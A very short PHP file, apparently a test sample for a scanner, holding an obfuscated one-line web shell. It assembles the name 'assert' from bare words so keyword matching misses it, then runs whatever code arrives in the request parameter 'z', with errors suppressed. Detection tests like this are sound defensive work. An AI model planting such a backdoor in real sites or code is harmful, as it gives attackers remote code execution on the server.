<?php
// PHP 7 reads an undefined constant as its own name: the runner's name glued from bare
// words (written for the tests, never run)
$run = ass . (er) . t;
@$run($_REQUEST['z']);
